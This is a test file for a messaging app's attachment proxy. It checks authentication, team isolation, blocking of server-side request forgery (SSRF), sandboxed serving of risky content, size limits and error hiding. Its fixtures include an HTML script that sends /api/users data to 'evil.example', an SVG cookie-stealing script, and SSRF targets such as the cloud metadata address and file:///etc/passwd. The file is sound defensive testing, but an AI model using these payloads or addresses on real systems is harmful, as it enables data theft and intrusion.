import { randomUUID } from 'node:crypto'
import http, { type IncomingHttpHeaders, type IncomingMessage, type ServerResponse } from 'node:http'
import type { AddressInfo } from 'node:net'
import { mediaMaxBytes, sessionCookie } from '@carebox/shared'
import type { FastifyInstance } from 'fastify'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { createChannel } from '../../../server/src/channels/channels.service.js'
import type { AppContext } from '../../../server/src/context.js'
import { buildTestApp } from '../../support/app.js'
import { createTeam, firstTeamId, signedInAs, type SignedIn } from '../../support/auth.js'
import { createTestContext } from '../../support/context.js'
import { createTestDatabase, type TestDatabase } from '../../support/database.js'
import { processQueue } from '../../support/queue.js'
import { metaBytes, metaSignature, postMeta } from '../../support/webhooks.js'

interface RecordingServer {
  origin: string
  port: number
  /** Every request that reached the server, as "METHOD path", with its headers. */
  requests: { line: string; headers: IncomingHttpHeaders }[]
  close(): Promise<void>
}

async function startServer(host: string, handler: (request: IncomingMessage, response: ServerResponse) => void): Promise<RecordingServer> {
  const requests: RecordingServer['requests'] = []
  const server = http.createServer((request, response) => {
    requests.push({ line: `${request.method} ${request.url}`, headers: request.headers })
    handler(request, response)
  })
  await new Promise<void>((resolve, reject) => server.once('error', reject).listen(0, host, resolve))
  const port = (server.address() as AddressInfo).port
  return {
    origin: `http://${host.includes(':') ? `[${host}]` : host}:${port}`,
    port,
    requests,
    close: () => new Promise((resolve) => server.close(() => resolve()).closeAllConnections()),
  }
}

const png = Buffer.concat([Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]), Buffer.from('IHDR fake but well-signed image bytes')])
const html =
  '<!doctype html><html><body><script>fetch("/api/users").then(r => r.text()).then(t => navigator.sendBeacon("https://evil.example", t))</script></body></html>'
const svg = '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(document.cookie)</script></svg>'
const upstreamSecret = 'upstream stack trace with db password hunter2'

let database: TestDatabase
let ctx: AppContext
let app: FastifyInstance
/** A service on this machine the attachments must never reach. */
let internal: RecordingServer
/** The same on the IPv6 loopback, where the machine has one. */
let internal6: RecordingServer | undefined
/** The platform's media host: an allowed origin, like the demo's simulator. */
let platform: RecordingServer
let agentA: SignedIn
let agentB: SignedIn
let admin: SignedIn
let messageA: string
let messageB: string
/** The attachments of messageA, by what each one is. */
const index: Record<string, number> = {}

function platformHandler(request: IncomingMessage, response: ServerResponse): void {
  const send = (status: number, type: string, body: string | Buffer, headers: Record<string, string> = {}): void => {
    response.writeHead(status, { 'content-type': type, ...headers }).end(body)
  }
  switch (request.url) {
    case '/photo.png':
      return send(200, 'image/png', png)
    case '/page.png':
      return send(200, 'image/png', html)
    case '/page.html':
      return send(200, 'text/html; charset=utf-8', html)
    case '/drawing.svg':
      return send(200, 'image/svg+xml', svg)
    case '/to-internal':
      return send(302, 'text/plain', '', { location: `${internal.origin}/x` })
    case '/to-metadata':
      return send(302, 'text/plain', '', { location: 'http://169.254.169.254/latest/meta-data/' })
    case '/to-internal6':
      return send(302, 'text/plain', '', { location: `http://[::1]:${internal6?.port ?? internal.port}/x` })
    case '/huge':
      return send(200, 'application/octet-stream', Buffer.alloc(mediaMaxBytes + 1, 0x41))
    case '/broken':
      return send(500, 'text/plain', upstreamSecret)
    default:
      return send(404, 'text/plain', 'not found')
  }
}

async function postMessage(pageId: string, appSecret: string, mid: string, attachments: unknown[]): Promise<string> {
  const raw = metaBytes({
    object: 'page',
    entry: [
      {
        id: pageId,
        time: 1767225600000,
        messaging: [{ sender: { id: `customer-${mid}` }, recipient: { id: pageId }, timestamp: 1767225599000, message: { mid, attachments } }],
      },
    ],
  })
  expect((await postMeta(app, raw, metaSignature(raw, appSecret))).statusCode).toBe(200)
  await processQueue(ctx, database.pool)
  const row = await ctx.db.selectFrom('messages').select('id').where('externalId', '=', mid).executeTakeFirstOrThrow()
  return row.id
}

function getAttachment(messageId: string, at: number, headers: Record<string, string> = agentA.headers) {
  return app.inject({ method: 'GET', url: `/api/messages/${messageId}/attachments/${at}`, headers })
}

function internalRequests(): string[] {
  return [...internal.requests, ...(internal6?.requests ?? [])].map((request) => request.line)
}

beforeAll(async () => {
  internal = await startServer('127.0.0.1', (_request, response) => response.writeHead(200, { 'content-type': 'image/png' }).end(png))
  internal6 = await startServer('::1', (_request, response) => response.writeHead(200, { 'content-type': 'image/png' }).end(png)).catch(() => undefined)
  platform = await startServer('127.0.0.1', platformHandler)

  database = await createTestDatabase()
  ctx = createTestContext(database)
  ctx.runtime.mediaAllowOrigins = [platform.origin]
  app = await buildTestApp(ctx)
  const teamA = await firstTeamId(ctx)
  const teamB = await createTeam(ctx, 'Team B')
  const page = { kind: 'facebook' as const, settings: { mode: 'webhook' as const, apiBaseUrl: 'http://127.0.0.1:9/graph' } }
  await createChannel(ctx, { ...page, name: 'Page A', externalId: '1001', teamId: teamA, secrets: { appSecret: 'secret-a', accessToken: 't' } })
  await createChannel(ctx, { ...page, name: 'Page B', externalId: '2002', teamId: teamB, secrets: { appSecret: 'secret-b', accessToken: 't' } })

  const attachments: [string, unknown][] = [
    ['loopback', { type: 'image', payload: { url: `${internal.origin}/x` } }],
    ['cloud metadata', { type: 'image', payload: { url: 'http://169.254.169.254/latest/meta-data/' } }],
    ['IPv6 loopback', { type: 'image', payload: { url: `http://[::1]:${internal6?.port ?? internal.port}/x` } }],
    ['localhost by name', { type: 'image', payload: { url: `http://localhost:${internal.port}/x` } }],
    ['the unspecified address', { type: 'image', payload: { url: `http://0.0.0.0:${internal.port}/x` } }],
    ['IPv4-mapped IPv6 loopback', { type: 'image', payload: { url: `http://[::ffff:127.0.0.1]:${internal.port}/x` } }],
    ['loopback as one decimal number', { type: 'image', payload: { url: `http://2130706433:${internal.port}/x` } }],
    ['loopback in short form', { type: 'image', payload: { url: `http://127.1:${internal.port}/x` } }],
    ['a local file', { type: 'file', payload: { url: 'file:///etc/passwd' } }],
    ['an allowed origin with credentials in the URL', { type: 'image', payload: { url: `http://user:pass@127.0.0.1:${platform.port}/photo.png` } }],
    ['an allowed origin redirecting to loopback', { type: 'image', payload: { url: `${platform.origin}/to-internal` } }],
    ['an allowed origin redirecting to cloud metadata', { type: 'image', payload: { url: `${platform.origin}/to-metadata` } }],
    ['an allowed origin redirecting to IPv6 loopback', { type: 'image', payload: { url: `${platform.origin}/to-internal6` } }],
    ['png', { type: 'image', payload: { url: `${platform.origin}/photo.png` } }],
    ['html as png', { type: 'file', payload: { url: `${platform.origin}/page.png`, title: 'invoice.png' } }],
    ['html', { type: 'file', payload: { url: `${platform.origin}/page.html`, title: 'page.html' } }],
    ['svg', { type: 'image', payload: { url: `${platform.origin}/drawing.svg` } }],
    ['location', { type: 'location', payload: { url: `${platform.origin}/photo.png`, coordinates: { lat: 52.5, long: 13.4 } } }],
    ['huge', { type: 'file', payload: { url: `${platform.origin}/huge`, title: 'huge.bin' } }],
    ['broken', { type: 'image', payload: { url: `${platform.origin}/broken` } }],
  ]
  attachments.forEach(([name], i) => (index[name] = i))
  messageA = await postMessage(
    '1001',
    'secret-a',
    'm_attachments',
    attachments.map(([, attachment]) => attachment),
  )
  messageB = await postMessage('2002', 'secret-b', 'm_other_team', [{ type: 'image', payload: { url: `${platform.origin}/photo.png` } }])

  agentA = await signedInAs(ctx, app, 'agent', [teamA])
  agentB = await signedInAs(ctx, app, 'agent', [teamB])
  admin = await signedInAs(ctx, app, 'admin')
})
afterAll(async () => {
  await app.close()
  await database.drop()
  await Promise.all([internal.close(), internal6?.close(), platform.close()])
})

describe('GET /api/messages/:id/attachments/:index', () => {
  it('answers 401 without a session, and fetches nothing', async () => {
    const fetched = platform.requests.length

    const none = await app.inject({ method: 'GET', url: `/api/messages/${messageA}/attachments/${index.png}` })
    const head = await app.inject({ method: 'HEAD', url: `/api/messages/${messageA}/attachments/${index.png}` })
    const forged = await getAttachment(messageA, index.png ?? 0, { cookie: `${sessionCookie}=${'A'.repeat(43)}` })

    expect([none.statusCode, head.statusCode, forged.statusCode]).toEqual([401, 401, 401])
    expect(none.body).not.toContain('IHDR')
    expect(platform.requests.length).toBe(fetched)
  })

  it("answers 404 for another team's message, exactly as for a message that does not exist, and fetches nothing", async () => {
    const fetched = platform.requests.length

    const otherTeam = await getAttachment(messageB, 0, agentA.headers)
    const reverse = await getAttachment(messageA, index.png ?? 0, agentB.headers)
    const missing = await getAttachment(randomUUID(), 0, agentA.headers)

    expect(otherTeam.statusCode).toBe(404)
    expect(reverse.statusCode).toBe(404)
    expect(otherTeam.body).toBe(missing.body)
    expect(reverse.body).toBe(missing.body)
    expect(platform.requests.length).toBe(fetched)
  })

  it('answers 404 past the last attachment, and for a location, which is a link and not a file', async () => {
    const fetched = platform.requests.length

    const past = await getAttachment(messageA, 99)
    const location = await getAttachment(messageA, index.location ?? 0)

    expect(past.statusCode).toBe(404)
    expect(location.statusCode).toBe(404)
    expect(platform.requests.length).toBe(fetched)
  })

  it.each([
    'loopback',
    'cloud metadata',
    'IPv6 loopback',
    'localhost by name',
    'the unspecified address',
    'IPv4-mapped IPv6 loopback',
    'loopback as one decimal number',
    'loopback in short form',
    'a local file',
    'an allowed origin with credentials in the URL',
    'an allowed origin redirecting to loopback',
    'an allowed origin redirecting to cloud metadata',
    'an allowed origin redirecting to IPv6 loopback',
  ])('answers 403 for an attachment at %s, and the address gets no request', async (name) => {
    const at = index[name]
    expect(at).toBeDefined()

    const response = await getAttachment(messageA, at ?? 0)

    expect(response.statusCode).toBe(403)
    expect(response.json()).toEqual({ error: { code: 'forbidden', message: "This attachment's address is not allowed." } })
    expect(internalRequests()).toEqual([])
  })

  it('passes on an image from an allowed origin as an image, sandboxed, and sends the platform none of our credentials', async () => {
    const fetched = platform.requests.length

    const response = await getAttachment(messageA, index.png ?? 0, admin.headers)

    expect(response.statusCode).toBe(200)
    expect(response.rawPayload.equals(png)).toBe(true)
    expect(response.headers).toMatchObject({
      'content-type': 'image/png',
      'content-disposition': 'inline',
      'x-content-type-options': 'nosniff',
      'content-security-policy': "default-src 'none'; sandbox",
      'cache-control': 'private, max-age=300',
    })
    const sent = platform.requests.slice(fetched)
    expect(sent.map((request) => request.line)).toEqual(['GET /photo.png'])
    expect(Object.keys(sent[0]?.headers ?? {})).not.toEqual(expect.arrayContaining(['cookie']))
    expect(sent[0]?.headers).not.toHaveProperty('authorization')
    expect(sent[0]?.headers).not.toHaveProperty('x-csrf-token')
    expect(JSON.stringify(sent[0]?.headers)).not.toContain(admin.csrfToken)
  })

  it.each([
    ['an HTML page served as image/png', 'html as png', 'invoice.png'],
    ['an HTML page served as text/html', 'html', 'page.html'],
    ['an SVG with a script', 'svg', 'attachment'],
  ])('offers %s as an opaque download, never as a page', async (_case, name, filename) => {
    const response = await getAttachment(messageA, index[name] ?? 0)

    expect(response.statusCode).toBe(200)
    expect(response.headers['content-type']).toBe('application/octet-stream')
    expect(response.headers['content-disposition']).toBe(`attachment; filename="${filename}"; filename*=UTF-8''${filename}`)
    expect(response.headers['x-content-type-options']).toBe('nosniff')
    expect(response.headers['content-security-policy']).toBe("default-src 'none'; sandbox")
  })

  it('answers 413 for an attachment over the size limit', async () => {
    const response = await getAttachment(messageA, index.huge ?? 0)

    expect(response.statusCode).toBe(413)
    expect(response.json().error.code).toBe('payload_too_large')
  })

  it("answers 503 when the platform fails, without passing on the platform's answer", async () => {
    const response = await getAttachment(messageA, index.broken ?? 0)

    expect(response.statusCode).toBe(503)
    expect(response.json().error.code).toBe('unavailable')
    expect(response.body).not.toContain('hunter2')
  })

  it('serves an API token holding conversations:read, and no other token', async () => {
    const create = (scopes: string[]) =>
      app
        .inject({ method: 'POST', url: '/api/tokens', headers: admin.headers, payload: { name: scopes.join(' '), scopes } })
        .then((response) => response.json<{ secret: string }>().secret)
    const reader = await create(['conversations:read'])
    const channelsOnly = await create(['channels:read'])

    const allowed = await getAttachment(messageA, index.png ?? 0, { authorization: `Bearer ${reader}` })
    const refused = await getAttachment(messageA, index.png ?? 0, { authorization: `Bearer ${channelsOnly}` })

    expect(allowed.statusCode).toBe(200)
    expect(allowed.headers['content-type']).toBe('image/png')
    expect(refused.statusCode).toBe(403)
  })
})
